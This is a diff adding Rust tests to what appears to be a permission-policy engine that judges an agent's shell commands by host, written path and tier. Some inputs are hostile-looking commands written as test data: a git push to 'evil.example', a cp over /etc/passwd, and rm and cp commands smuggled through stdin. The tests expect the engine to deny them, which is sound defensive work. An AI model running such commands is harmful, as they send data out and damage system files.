@@ -253,3 +253,60 @@ fn an_allow_covers_the_names_that_it_gives() {
         assert_eq!(judged.command(ROOT, command).outcome.word(), "deny", "{command}");
     }
 }
+
+#[test]
+fn an_allow_over_a_call_and_its_effects_needs_both() {
+    let judged = judged(
+        r#"policy guarded {
+    allow push { program git; sub push; connects "git.corp.example" }
+    allow install { program cp; writes "/etc/app/**" }
+    allow both { connects "a.example"; writes "/etc/app/**" }
+}"#,
+    );
+    let told = |command| judged.told(ROOT, command);
+    assert_eq!(told("git push https://git.corp.example/a main"), "allow policy.push");
+    assert_eq!(told("git push https://evil.example/a main"), "deny mode-guarded");
+    // Nothing says to which host this goes.
+    assert_eq!(told("git push"), "deny mode-guarded");
+    assert!(told("cp a /etc/app/b").starts_with("allow policy."));
+    assert_eq!(told("cp a /etc/passwd"), "deny mode-guarded");
+    // Without a call, a rule covers each effect that it names.
+    assert_eq!(told("echo x > /etc/app/a"), "allow policy.both");
+}
+
+#[test]
+fn every_part_that_a_rule_raises_is_raised() {
+    let judged = judged(
+        r#"policy open {
+    tier all 3 { program deploy }
+    lower one to=1 because="it is a rehearsal" { program deploy; operands staging }
+}"#,
+    );
+    let tier = |command| judged.command(ROOT, command).tier.number();
+    assert_eq!((tier("deploy staging"), tier("deploy prod")), (1, 3));
+    assert_eq!((tier("deploy staging; deploy prod"), tier("deploy prod; deploy staging")), (3, 3));
+}
+
+#[test]
+fn a_word_of_standard_input_is_fixed_by_its_own_rule_alone() {
+    let judged = judged(
+        r#"policy guarded {
+    allow copy { program cp; operands a }
+}"#,
+    );
+    let told = |arguments: serde_json::Value| {
+        let decision = judged.call(ROOT, "shell_exec", arguments.as_object().unwrap());
+        format!("{} {}", decision.outcome.word(), decision.rule_name())
+    };
+    let copy = "cp --target-directory=/etc a";
+    assert_eq!(told(json!({ "command": copy })), "deny mode-guarded");
+    assert_eq!(told(json!({ "command": "sh", "stdin": copy })), "deny mode-guarded");
+    assert_eq!(told(json!({ "command": "true", "stdin": copy })), "deny mode-guarded");
+    let decision = judged.call(
+        ROOT,
+        "shell_exec",
+        json!({ "command": "true", "stdin": "rm /etc/x" }).as_object().unwrap(),
+    );
+    let span = decision.span.expect("the word that decides");
+    assert_eq!((decision.text.as_str(), span.of(&decision.text)), ("true\nrm /etc/x", "/etc/x"));
+}
